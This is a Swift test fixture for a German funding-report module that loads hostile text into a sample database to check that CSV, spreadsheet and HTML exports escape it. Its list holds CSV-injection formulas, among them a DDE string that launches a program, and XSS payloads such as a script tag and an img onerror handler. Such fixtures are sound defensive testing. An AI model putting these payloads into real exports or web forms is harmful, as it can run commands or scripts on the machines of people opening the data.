import Foundation

@testable import AQBReport

/// Text an attacker, or a careless import, may put into the tables other systems fill: formulas
/// (OWASP's CSV-injection starts `=`, `+`, `-`, `@`, tab, carriage return, and a DDE call), CSV
/// breakers (`;`, `"`, line breaks), Markdown and HTML. Loaded over the sample data into area
/// names, project titles, Träger names, budget-change reasons and a booking's Verwendungszweck,
/// beside a negative amount.
enum HostileText {
    static let texts = [
        "=1+1",
        "=HYPERLINK(\"http://example.invalid/?\"&A1;\"klick\")",
        "+1",
        "-1",
        "@SUM(A1)",
        "\t=1+1 Tab",
        "\r=1+1 CR",
        "Semikolon; \"Anführung\" | Pipe\nZeile 2",
        "**fett** _kursiv_ [Link](http://example.invalid/) # Titel `code`",
        "<script>alert(1)</script><b>fett</b> &amp; <img src=x onerror=alert(2)>",
        "-2+3\r\n=4",
        " =1+1 ",
        "'=1+1",
        "=cmd|' /C calc'!A0",
        "_x003D_1+1 (OOXML escape of =)",
        "_x005F_ bleibt",
    ]

    /// The Kreis whose spending a repayment (Rückforderung) makes negative.
    static let negativeKreis = "06535"
    /// Its spending up to the Stichtag after the repayment.
    static let negativeSpending = "-12345.67"
    /// A budget cut, with a hostile reason.
    static let budgetCut = (ags: "06411", betrag: "-1000.00")

    static let year = 2024
    static let asOf = "2025-09-30"

    /// The Kreise that get a hostile name, one text each, in the order of `texts`.
    static func renamedKreise(_ database: TestDatabase) throws -> [(ags: String, name: String)] {
        let result = try database.connection.query(
            """
            SELECT ags::text FROM aqb.gebietskoerperschaft
            WHERE ags <> '\(negativeKreis)'
              AND (gueltig_ab IS NULL OR gueltig_ab <= make_date(\(year), 12, 31))
              AND (gueltig_bis IS NULL OR gueltig_bis >= make_date(\(year), 1, 1))
            ORDER BY ags LIMIT \(texts.count)
            """)
        return try (0..<result.rowCount).map { (try result.row($0).requiredString(0), texts[$0]) }
    }

    static func literal(_ text: String) -> String { "'" + text.replacingOccurrences(of: "'", with: "''") + "'" }

    /// Loads the sample data and writes the hostile texts and the negative amounts into them.
    static func load(into database: TestDatabase) throws {
        try database.loadSample()
        let array = "ARRAY[" + texts.map(literal).joined(separator: ", ") + "]::text[]"
        var sql = ""
        for (ags, name) in try renamedKreise(database) {
            sql += "UPDATE aqb.gebietskoerperschaft SET name = \(literal(name)) WHERE ags = '\(ags)';\n"
        }
        let count = texts.count
        sql += """
            UPDATE aqb.projekt SET titel = (\(array))[1 + id % \(count)], traeger = (\(array))[1 + (id + 5) % \(count)];
            UPDATE aqb.budget_aenderung SET grund = (\(array))[1 + id % \(count)];
            INSERT INTO aqb.budget_aenderung (id, ags, jahr, wirksam_am, betrag_eur, grund)
                VALUES (990001, '\(budgetCut.ags)', \(year), '\(year)-07-01', \(budgetCut.betrag), \(literal(texts[1])));
            INSERT INTO aqb.ausgabe (id, projekt_id, buchungstag, betrag_eur, verwendungszweck)
            SELECT 990000001, (SELECT min(id) FROM aqb.projekt WHERE ags = '\(negativeKreis)' AND jahr = \(year)), '2025-06-30',
                   -(coalesce(sum(a.betrag_eur), 0) - (\(negativeSpending))), \(literal(texts[0]))
              FROM aqb.projekt p JOIN aqb.ausgabe a ON a.projekt_id = p.id AND a.buchungstag <= '\(asOf)'
             WHERE p.ags = '\(negativeKreis)' AND p.jahr = \(year);
            """
        try database.load(sql)
    }
}
